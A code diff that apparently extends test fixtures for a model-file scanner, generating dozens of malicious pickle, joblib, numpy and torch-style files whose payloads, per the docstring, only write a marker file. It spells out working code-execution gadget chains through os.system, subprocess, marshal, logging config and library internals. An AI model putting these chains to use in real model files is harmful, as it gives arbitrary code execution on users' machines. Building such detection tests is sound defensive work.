@@ -1,30 +1,61 @@
 """Model files that would run something when loaded: each payload only writes a marker file."""
 
+import _thread
+import atexit
 import builtins
 import bz2
 import code
 import copyreg
+import cProfile
 import functools
 import gzip
 import importlib
 import io
+import itertools
+import logging.config
 import lzma
+import marshal
+import multiprocessing.util
 import operator
 import os
 import pickle
+import pkgutil
 import runpy
 import subprocess
+import time
+import timeit
+import weakref
+import zipfile
 import zlib
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import joblib
+import joblib.parallel
 import numpy as np
+import pandas as pd
+import sklearn.utils.parallel
 from sklearn.feature_extraction.text import CountVectorizer
 from sklearn.linear_model import LogisticRegression
 from sklearn.preprocessing import FunctionTransformer
 
 EXTENSION = 240
+INERT = frozenset({
+    "array of a forged pointer",
+    "buffer",
+    "build on a class",
+    "build on a computed module",
+    "build, then call",
+    "lying dtype",
+    "ndarray in a transformer",
+    "partial kept in a transformer",
+    "persistent id",
+    "readonly buffer",
+    "tokenizer kept",
+    "truncated joblib",
+    "ufunc",
+})
+"""Those that run nothing here: they are refused for what they prepare, or for older libraries."""
 
 
 class Call:
@@ -101,6 +132,108 @@ def calls(shell: str, python: str) -> Iterator[tuple[str, object]]:
     yield "after a raw array", [np.arange(5.0), system]
     yield "as a key", {Call(os.system, shell): 1}
     yield "state setter", Call(list, (), state=system)
+
+
+def gadgets(shell: str, python: str) -> Iterator[tuple[str, object]]:
+    """Yield (name, object whose pickle runs the payload through a library's own callers)."""
+    random = importlib.import_module("numpy.random._pickle")
+    task = (os.system, (shell,), {})
+    yield "generator maker", Call(vars(random)["__generator_ctor"], shell, os.system)
+    yield "random state maker", Call(vars(random)["__randomstate_ctor"], shell, os.system)
+    yield "vectorize", Call(Call(np.vectorize, os.system), shell)
+    yield "frompyfunc", Call(Call(np.frompyfunc, os.system, 1, 1), shell)
+    yield "apply_along_axis", Call(np.apply_along_axis, Call(np.vectorize, os.system), 0, [shell])
+    backend = Call(joblib.parallel.SequentialBackend, 1)
+    yield "joblib batch", Call(Call(joblib.parallel.BatchedCalls, [task], (backend, 1)))
+    yield "sklearn wrapper", Call(Call(sklearn.utils.parallel._FuncWrapper, os.system), shell)
+    yield "series apply", Call(Call(getattr, pd.Series([shell], dtype=object), "map"), os.system)
+    yield "starmap", Call(list, Call(itertools.starmap, os.system, [(shell,)]))
+    yield "filter", Call(list, Call(filter, os.system, [shell]))
+    yield "timeit", Call(timeit.timeit, python, "pass", time.perf_counter, 1)
+    yield "profile", Call(cProfile.run, python)
+    yield "spawnvp", Call(os.spawnvp, os.P_WAIT, "sh", ["sh", "-c", shell])
+    yield (
+        "spawnv_passfds",
+        Call(multiprocessing.util.spawnv_passfds, b"/bin/sh", ["sh", "-c", shell], []),
+    )
+    settings = {"version": 1, "formatters": {"a": {"()": "os.system", "command": shell}}}
+    yield "logging settings", Call(logging.config.dictConfig, settings)
+    yield "resolve_name", Call(Call(pkgutil.resolve_name, "os:system"), shell)
+    yield "atexit", Call(atexit.register, os.system, shell)
+    yield "finalize", Call(weakref.finalize, Call(type, "Kept", (), {}), os.system, shell)
+    yield "thread", Call(_thread.start_new_thread, os.system, (shell,))
+    kept = FunctionTransformer(np.ndarray, kw_args={"dtype": np.dtype("O"), "buffer": bytes(64)})
+    yield "ndarray in a transformer", kept
+    yield "tokenizer kept", CountVectorizer(tokenizer=os.system)
+    yield "in a keyword", Call(dict, [("a", Call(os.system, shell))])
+    yield "in a set", {Call(os.system, shell)}
+    yield "in a nested array", np.array([np.array([Call(os.system, shell)], dtype=object)])
+
+
+def memos(shell: str, python: str) -> Iterator[tuple[str, bytes]]:
+    """Yield (name, pickle that hides the payload in the engine's memory or frames)."""
+    word, system = text(shell), named("posix", "system")
+    harmless = named("builtins", "list")
+    framed = b"".join((*system[:-1].split(b"never"), b"\x93(", word, b"tR."))
+    yield "memo overwritten", stream(harmless, b"q\x000", system, b"q\x000", called(b"h\x00", word))
+    yield "memo far away", stream(system, b"r\xff\xff\x00\x000", called(b"j\xff\xff\x00\x00", word))
+    yield "memo in a list", stream(b"]", system, b"\x94a0", called(b"h\x00", word))
+    yield "dup", stream(system, b"2(", word, b"tR")
+    yield "in a frame", b"\x80\x04\x95" + len(framed).to_bytes(8, "little") + framed
+    compiled = marshal.dumps(compile(python, "", "exec"))
+    loaded = called(
+        named("marshal", "loads"), b"B" + len(compiled).to_bytes(4, "little") + compiled
+    )
+    yield "marshal", stream(called(called(named("types", "FunctionType"), loaded, b"}")))
+    popen = named("subprocess", "Popen")
+    command = b"](" + text("sh") + text("-c") + word + b"e"
+    yield (
+        "reconstructor with a live base",
+        stream(called(named("copyreg", "_reconstructor"), popen, popen, command)),
+    )
+    partial = named("sklearn.feature_extraction.text", "partial")
+    yield "partial of an allowed module", stream(called(called(partial, system, word)))
+    index = called(
+        named("pandas.core.indexes.base", "_new_Index"),
+        named("numpy", "ndarray"),
+        b"}(" + text("shape") + b"K\x01\x85" + text("dtype") + named("numpy", "object_"),
+        text("buffer") + b"C\x08AAAAAAAAu",
+    )
+    yield "array of a forged pointer", stream(index)
+    yield "readonly buffer", b"\x80\x05\x97\x98."
+    module = called(named("importlib", "import_module"), text("sklearn.pipeline"))
+    yield "build on a computed module", stream(module, b"}", text("clone"), system, b"sb")
+
+
+def zipped(members: dict[str, bytes]) -> bytes:
+    """Return a zip archive."""
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w") as archive:
+        for name, content in members.items():
+            archive.writestr(name, content)
+    return file.getvalue()
+
+
+def archives(shell: str, python: str) -> Iterator[tuple[str, bytes]]:
+    """Yield (name, file that other loaders than pickle's would open and run)."""
+    evil = Call(os.system, shell)
+    payload = pickle.dumps(evil, 2)
+    yield "torch zip", zipped({"archive/data.pkl": payload, "archive/version": b"3\n"})
+    yield "torch script", zipped({"a/code/b.py": b"", "a/constants.pkl": payload})
+    opening = (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})
+    yield "torch of old", b"".join(pickle.dumps(one, 2) for one in opening) + payload
+    yield "zip member", zipped({"model.pkl": payload})
+    yield "zip of skops with a pickle", zipped({"schema.json": b"none", "model.pkl": payload})
+    array = io.BytesIO()
+    np.save(array, np.array([evil], dtype=object), allow_pickle=True)
+    yield "npy", array.getvalue()
+    arrays = io.BytesIO()
+    np.savez(arrays, weights=np.array([evil], dtype=object), allow_pickle=True)
+    yield "npz", arrays.getvalue()
+    packed = io.BytesIO()
+    joblib.dump([np.arange(5.0), evil], packed, compress=("zlib", 3))
+    yield "compressed joblib after a raw array", packed.getvalue()
+    yield "truncated joblib", joblibbed([np.arange(5.0), evil])[:-30]
 
 
 def opcodes(shell: str, python: str) -> Iterator[tuple[str, bytes]]:
@@ -201,22 +334,31 @@ def files(folder: Path, marker: Callable[[str], Path]) -> Iterator[tuple[str, by
         if "array" in name or "estimator" in name:
             joined = f"{name} in joblib"
             yield joined, joblibbed(dict(calls(*payload(joined)))[name])
-    for name, _ in opcodes("", ""):
-        yield name, dict(opcodes(*payload(name)))[name]
+    for name, _ in gadgets("", ""):
+        yield name, pickle.dumps(dict(gadgets(*payload(name)))[name])
+    for source in (opcodes, memos, archives):
+        for name, _ in source("", ""):
+            yield name, dict(source(*payload(name)))[name]
+    yield from packed(payload)
+    yield from indirect(folder, payload)
+
+
+def packed(payload: Callable[[str], tuple[str, str]]) -> Iterator[tuple[str, bytes]]:
+    """Yield a pickle in every packing, and cut short."""
     packers = {"gzip": gzip, "bz2": bz2, "xz": lzma, "zlib": zlib}
     for name, packer in packers.items():
         yield name, packer.compress(pickle.dumps(Call(os.system, payload(name)[0])))
     alone = lzma.compress(pickle.dumps(Call(os.system, payload("lzma")[0])), lzma.FORMAT_ALONE)
     yield "lzma", alone
     yield "truncated", pickle.dumps([Call(os.system, payload("truncated")[0])])[:-1]
-    yield from indirect(folder, payload)
 
 
 def indirect(
     folder: Path, payload: Callable[[str], tuple[str, str]]
 ) -> Iterator[tuple[str, bytes]]:
     """Yield files that make a loader read another file."""
-    for name, function in (("joblib.load", joblib.load), ("numpy.load", np.load)):
+    loaders = (("joblib.load", joblib.load), ("numpy.load", np.load))
+    for name, function in (*loaders, ("pandas.read_pickle", pd.read_pickle)):
         other = folder / f"{name}.other"
         other.write_bytes(pickle.dumps(Call(os.system, payload(name)[0])))
         extra = (None, True) if name == "numpy.load" else ()
